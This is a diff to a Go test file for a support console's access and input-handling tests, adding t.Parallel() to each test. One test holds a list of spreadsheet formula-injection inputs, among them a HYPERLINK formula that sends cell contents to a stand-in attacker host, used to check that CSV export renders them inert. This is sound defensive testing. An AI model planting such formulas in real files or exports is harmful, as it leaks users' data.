@@ -61,6 +61,7 @@ func newPrivilegeFixture(t *testing.T, opt func(*Options)) *privilegeFixture {
 // rule is the conversations' (mayServeLevel); editors have no ticket
 // pages unless an admin grants them (then read only).
 func TestTicketAccessMatrix(t *testing.T) {
+	t.Parallel()
 	for _, grant := range []bool{false, true} {
 		f := newPrivilegeFixture(t, func(o *Options) { o.EditorsReadTickets = grant })
 		routes := []struct {
@@ -160,6 +161,7 @@ func itoa64(n int64) string { return strconv.FormatInt(n, 10) }
 
 // Bad ids and unknown agents are the request's fault: 400 or 404, never 500.
 func TestTicketBadIDsAndAgents(t *testing.T) {
+	t.Parallel()
 	f := newPrivilegeFixture(t, nil)
 	sara := f.tc.login("sara")
 	var eva agents.User
@@ -202,6 +204,7 @@ func TestTicketBadIDsAndAgents(t *testing.T) {
 // The refusal pages say what was refused: a form without this session's
 // token, or one sent by another site — not "your role does not allow".
 func TestRefusalPagesSayWhat(t *testing.T) {
+	t.Parallel()
 	f := newPrivilegeFixture(t, nil)
 	sara := f.tc.login("sara")
 	path := "/console/tickets/" + itoa64(f.l1.ID) + "/note"
@@ -226,6 +229,7 @@ func TestRefusalPagesSayWhat(t *testing.T) {
 // the CSV export as text, and editors see the same queries aggregated
 // with personal data masked.
 func TestUnansweredQueriesAreInert(t *testing.T) {
+	t.Parallel()
 	f := newPrivilegeFixture(t, nil)
 	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "@SUM(1+1)", "+39 333 1234567", "-2+3", "\t=1", "\r=1"}
 	for _, q := range append(hostile, "vpn mario.rossi@example.org", "vpn mario.rossi@example.org") {
@@ -265,6 +269,7 @@ func TestUnansweredQueriesAreInert(t *testing.T) {
 // kb:read reads what the public help centre shows; kb:internal adds the
 // internal entries.
 func TestAPIKnowledgeBaseAudience(t *testing.T) {
+	t.Parallel()
 	at := newAPITest(t)
 	editor := at.token(agents.ScopeKBRead, agents.ScopeKBWrite)
 	for _, e := range []map[string]any{
@@ -320,6 +325,7 @@ func TestAPIKnowledgeBaseAudience(t *testing.T) {
 // With SeparateMetrics, /metrics is off the public handler and served by
 // MetricsHandler alone.
 func TestMetricsOffThePublicListener(t *testing.T) {
+	t.Parallel()
 	for _, separate := range []bool{false, true} {
 		tc := newTestConsole(t, func(o *Options) { o.SeparateMetrics = separate })
 		c := tc.client()
@@ -343,6 +349,7 @@ func TestMetricsOffThePublicListener(t *testing.T) {
 // url-encoded post included (it answered 422: a handler that read the
 // form quietly found the fields missing).
 func TestBodyOverTheLimitIs413(t *testing.T) {
+	t.Parallel()
 	p := newPortal(t, nil)
 	c := p.client()
 	big := validForm("mario.rossi@example.org")
